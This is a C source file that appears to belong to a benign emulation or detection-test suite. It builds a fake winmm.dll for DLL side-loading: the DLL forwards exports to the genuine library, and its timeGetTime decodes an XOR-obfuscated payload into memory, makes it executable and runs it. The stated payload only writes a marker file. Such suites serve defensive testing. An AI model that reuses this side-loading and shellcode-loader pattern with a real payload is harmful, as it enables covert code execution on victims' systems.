/*
 * winmm.c - generality suite: a DLL planted under a system DLL's name, loaded by LoadLibraryA
 * (benign, emulator-only; see ../../lineage-common/common.h).
 *
 * Named winmm.dll and put beside a program that loads winmm.dll by its bare name. Its DllMain
 * does nothing; timeBeginPeriod and PlaySoundW are forwarded to the genuine DLL (winmm.def), and
 * timeGetTime is its own: the first call decodes the payload in its data (repeating XOR) into RW
 * memory, makes it PAGE_EXECUTE_READ and calls it (../../lineage-common/payload.c writes
 * C:\Users\Public\lineage_winmm.txt), then every call asks the genuine winmm.dll, loaded by its
 * full path in System32, for the time, so the program works as before.
 */
#include "common.h"
#include "blobs.h"

static const unsigned char key[3] = {0x2e, 0x91, 0x5c};

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    (void)inst;
    (void)reason;
    (void)reserved;
    return TRUE;
}

DWORD WINAPI planted_timeGetTime(void)
{
    static struct sc_ctx ctx;
    static int ran;
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    typedef DWORD (WINAPI *time_t_)(void);
    unsigned char *mem;
    HMODULE genuine;
    time_t_ get_time;
    DWORD i, old;

    if (!ran && marker_present()) {
        ran = 1;
        mem = (unsigned char *)VirtualAlloc(0, sizeof(payload), MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
        if (mem) {
            for (i = 0; i < sizeof(payload); i++)
                mem[i] = payload[i] ^ key[i % 3];
            if (VirtualProtect(mem, sizeof(payload), PAGE_EXECUTE_READ, &old)) {
                fill_ctx(&ctx, "C:\\Users\\Public\\lineage_winmm.txt", "side-loaded as winmm.dll\n");
                ((entry_t)(void *)mem)(&ctx);
            }
        }
    }
    genuine = LoadLibraryA("C:\\Windows\\System32\\winmm.dll");
    get_time = genuine ? (time_t_)(void *)GetProcAddress(genuine, "timeGetTime") : 0;
    return get_time ? get_time() : 0;
}
